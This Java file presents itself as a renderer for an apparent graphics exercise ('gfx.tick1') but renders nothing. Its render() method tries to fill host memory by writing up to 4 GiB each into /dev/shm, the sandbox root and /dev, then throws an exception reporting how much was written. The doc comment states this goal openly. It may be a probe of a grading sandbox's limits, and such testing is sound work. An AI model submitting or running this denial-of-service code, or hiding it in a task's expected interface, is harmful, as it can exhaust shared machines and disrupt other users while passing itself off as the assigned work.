package gfx.tick1;

import java.awt.image.BufferedImage;
import java.io.FileOutputStream;
import java.io.OutputStream;

/**
 * Tries to fill the host's memory through the sandbox's file systems held in memory: shared
 * memory (/dev/shm), the sandbox's own root (/) and /dev, a MiB at a time, and says how far it got.
 */
public class Renderer {

    public Renderer(int width, int height) {
    }

    public BufferedImage render(Scene scene) {
        StringBuilder got = new StringBuilder();
        for (String file : new String[] {"/dev/shm/fill", "/fill", "/dev/fill"}) {
            got.append(file).append(": ").append(fill(file)).append("; ");
        }
        throw new IllegalStateException("filled " + got);
    }

    private static String fill(String file) {
        byte[] mib = new byte[1 << 20];
        int written = 0;
        try (OutputStream out = new FileOutputStream(file)) {
            for (; written < 4096; written++) {
                out.write(mib);
            }
            return "wrote " + written + " MiB";
        } catch (Exception e) {
            return "stopped after " + written + " MiB (" + e.getMessage() + ")";
        }
    }
}
